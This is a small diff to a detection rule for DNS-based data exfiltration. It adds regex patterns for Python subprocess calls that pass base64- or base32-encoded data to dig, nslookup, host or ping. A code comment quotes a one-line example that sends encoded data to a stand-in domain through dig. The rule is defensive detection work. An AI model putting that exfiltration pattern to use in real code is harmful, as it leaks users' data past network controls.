@@ -142,9 +142,13 @@ rule dns_exfiltration {
         $py_data = /(\.hex\(\)|hexlify|b32encode|b16encode)/
         $cmd_var = /["'](ping|nslookup|dig|host)\s+(-\w+\s+){0,3}(%s|\{\w{1,30}\})["']/
         $hex_chars = /["']%02x["']\s*%\s*ord\s*\(/
+        // `Popen(["dig", "+short", f"{i}.{label}.x.example"])` with encoded data
+        $cmd_list = /\[\s*["'](dig|nslookup|host|ping)["']\s*,/
+        $encoded = /\b(urlsafe_b64encode|b32encode|b64encode)\b/
     condition:
         $sh or $fmt or ($js_dns and $js_data) or ($py_dns and $py_data)
         or ($cmd_var and ($py_data or $hex_chars))
+        or ($cmd_list and ($py_data or $hex_chars or $encoded))
 }
 
 rule ip_logger_url {
